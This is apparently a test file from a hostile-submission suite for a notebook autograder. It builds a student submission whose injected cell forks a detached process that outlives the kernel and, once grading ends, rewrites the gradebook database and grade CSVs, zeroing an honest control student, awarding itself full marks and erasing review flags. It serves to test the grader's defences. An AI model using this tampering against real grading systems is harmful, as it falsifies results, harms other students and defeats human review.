"""Starts a process that outlives its kernel: once the grader has exported, it rewrites gradebook.db and both
grade CSVs (the honest control to 0, itself to full marks, flags erased)."""
from tests.hostile._common import FIND_COURSE, Submission, blank_answers, insert_after, release

KIND, HONEST, FLAG, WHAT = "cross", 0.0, True, "a process outlives its kernel and rewrites gradebook.db and the CSVs"
EVIDENCE = r"fork|process|setsid|spawn|subprocess|os\."
DONE = ".hostile_daemon_done"


def build(ctx):
    me = ctx.student
    hook = FIND_COURSE + f'''
import os, time
_root = _course_root()
if _root and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import csv, sqlite3

        def _grader_alive():
            for pid in os.listdir("/proc"):
                try:
                    cmd = open(f"/proc/{{pid}}/cmdline", "rb").read().replace(b"\\0", b" ")
                    if b"msglib" in cmd and b"grade" in cmd and os.readlink(f"/proc/{{pid}}/cwd") == _root:
                        return True
                except Exception:
                    pass
            return False

        def _tamper():
            try:
                db = sqlite3.connect(os.path.join(_root, "gradebook.db"))
                for student, score in (({ctx.control!r}, "0"), ({me!r}, "max_score")):
                    db.execute("UPDATE grade SET manual_score = " + score + " WHERE notebook_id IN (SELECT sn.id FROM "
                               "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                               "WHERE sa.student_id = ?)", (student,))
                db.commit()
            except Exception:
                pass
            for name in ("grades.csv", "grades_by_exercise.csv"):
                path = os.path.join(_root, "grades", name)
                try:
                    rows = list(csv.DictReader(open(path)))
                    fields = list(rows[0])
                except Exception:
                    continue
                for row in rows:
                    if row.get("student_id") in ({ctx.control!r}, {me!r}):
                        for k in fields:
                            if k.startswith("00-") or k in ("score", "raw_score"):
                                row[k] = "0" if row["student_id"] == {ctx.control!r} else "10"
                        for k in ("flags", "needs_review"):
                            if k in row:
                                row[k] = ""
                with open(path, "w", newline="") as fh:
                    w = csv.DictWriter(fh, fieldnames=fields)
                    w.writeheader()
                    w.writerows(rows)

        def _batch_over():
            try:
                report = open(os.path.join(_root, "grades", "report.json")).read()
            except OSError:
                return False
            return '"finished": null' not in report and not _grader_alive()

        deadline = time.time() + 600
        while time.time() < deadline and not _batch_over():
            time.sleep(1)
        time.sleep(2)
        _tamper()
        open(os.path.join(_root, "{DONE}"), "w").write("tampered")
    os._exit(0)
'''
    return Submission(insert_after(blank_answers(release()), "00-call_chain", hook))
